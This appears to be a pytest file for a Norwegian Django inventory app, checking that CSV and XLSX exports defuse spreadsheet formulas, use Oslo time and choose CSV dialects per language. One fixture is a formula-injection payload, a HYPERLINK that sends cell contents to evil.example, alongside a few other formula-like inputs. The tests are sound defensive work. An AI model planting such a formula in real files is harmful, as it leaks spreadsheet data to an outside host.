"""Exports open safely and readably in a spreadsheet: no formulas, Oslo time, Norwegian Excel's CSV for nb users."""

import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse

from migportal import spreadsheets
from systems.inventory import exporter
from systems.inventory.importer import Importer
from systems.inventory.readers import Source
from systems.models import VM, System
from tests.factories import ContactPersonFactory, SystemFactory, VMFactory

from .conftest import counts, errors

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"klikk")'


def _csv(response, delimiter: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=delimiter))


def test_list_csv_export_neutralises_formulas_and_writes_oslo_time(viewer_client, time_machine):
    time_machine.move_to(datetime(2026, 12, 1, 13, 13, 28, 428991, tzinfo=ZoneInfo("UTC")), tick=False)
    SystemFactory(code="S1", name=EVIL, source_datacenter="@SUM(1)")
    response = viewer_client.get(reverse("systems:system_list"), {"_export": "csv"})
    [row] = _csv(response, ";")
    assert row["Navn"] == "'" + EVIL
    assert row["Fra datasenter"] == "'@SUM(1)", row
    assert row["Endret"] == "2026-12-01 14:13:28", "Oslo time, not raw UTC"


def test_list_csv_export_offers_plain_rfc_4180_and_decimal_commas_for_excel(viewer_client):
    VMFactory(hostname="vm1", memory_gb="7.25")
    url = reverse("systems:vm_list")
    plain = viewer_client.get(url, {"_export": "csv", "csv": "rfc4180"})
    assert not plain.content.startswith("\ufeff".encode())
    [row] = _csv(plain, ",")
    assert (row["Vertsnavn"], row["Minne (GB)"]) == ("vm1", "7.25")
    [row] = _csv(viewer_client.get(url, {"_export": "csv", "csv": "excel"}), ";")
    assert (row["Vertsnavn"], row["Minne (GB)"]) == ("vm1", "7,25")
    page = viewer_client.get(url).content.decode()
    assert "CSV for Excel" in page and "CSV (RFC 4180)" in page


def test_list_xlsx_export_writes_text_cells_and_real_date_cells(viewer_client):
    SystemFactory(code="S1", name=EVIL)
    ContactPersonFactory(name="=1+1", phone="+47 22 00 00 00")
    response = viewer_client.get(reverse("systems:system_list"), {"_export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = dict(zip((cell.value for cell in sheet[1]), sheet[2], strict=True))
    name, updated = cells["Navn"], cells["Endret"]
    assert (name.data_type, name.value) == ("s", "'" + EVIL)
    assert updated.is_date and isinstance(updated.value, datetime)
    response = viewer_client.get(reverse("systems:contactperson_list"), {"_export": "xlsx"})
    cells = [cell for row in openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "no formula cell anywhere"


@pytest.mark.parametrize("dialect", [spreadsheets.EXCEL_NB, spreadsheets.RFC4180], ids=lambda dialect: dialect.name)
def test_import_reads_both_csv_dialects_back_unchanged(tmp_path, dialect):
    VMFactory(system=SystemFactory(code="S1", name="-minus"), memory_gb="7.25", disk_gb="1024.5")
    paths = exporter.export_directory(tmp_path, dialect=dialect)
    result = Importer().run([Source.from_path(path) for path in paths])
    assert result.ok, errors(result)
    assert counts(result)["systems"] == (0, 0, 1) and counts(result)["vms"] == (0, 0, 1)
    System.objects.all().delete()
    assert Importer().run([Source.from_path(path) for path in paths]).ok
    vm = VM.objects.get()
    assert (vm.system.name, str(vm.memory_gb), str(vm.disk_gb)) == ("-minus", "7.25", "1024.50")


def test_export_command_writes_the_dialect_asked_for(tmp_path):
    SystemFactory(code="S1", name="+47")
    call_command("export_inventory", str(tmp_path / "plain"), stdout=io.StringIO())
    call_command("export_inventory", str(tmp_path / "excel"), "--csv", "excel", stdout=io.StringIO())
    assert (tmp_path / "plain" / "systems.csv").read_bytes().startswith(b"code,name,agency")
    excel = (tmp_path / "excel" / "systems.csv").read_text(encoding="utf-8")
    assert excel.startswith("\ufeffcode;name;agency") and "\nS1;'+47;" in excel


def test_csv_dialect_follows_the_language_unless_one_is_asked_for():
    assert spreadsheets.csv_dialect(None, "nb") is spreadsheets.EXCEL_NB
    assert spreadsheets.csv_dialect(None, "en") is spreadsheets.RFC4180
    assert spreadsheets.csv_dialect("rfc4180", "nb") is spreadsheets.RFC4180
    assert spreadsheets.csv_dialect("excel", "en") is spreadsheets.EXCEL_NB
    assert spreadsheets.csv_dialect("<script>", "nb") is spreadsheets.EXCEL_NB


def test_list_exports_the_filtered_rows_in_the_import_format(viewer_client, tmp_path):
    kept = SystemFactory(code="S1", name="=Sak", environment="test")
    SystemFactory(code="S2", environment="production")
    kept.depends_on.add(SystemFactory(code="S3", environment="production"))
    response = viewer_client.get(reverse("systems:system_list"), {"environment": "test", "_export": "inventory"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert header == exporter.KINDS["systems"].column_names, "the columns the importer reads, declared once"
    assert [(row[0], row[1], row[7]) for row in rows] == [("S1", "'=Sak", "S3")]
    (tmp_path / "systems.csv").write_text(text, encoding="utf-8")
    result = Importer().run([Source.from_path(tmp_path / "systems.csv")])
    assert counts(result)["systems"] == (0, 0, 1), errors(result)
    page = viewer_client.get(reverse("systems:system_list")).content.decode()
    assert "CSV i importformatet" in page
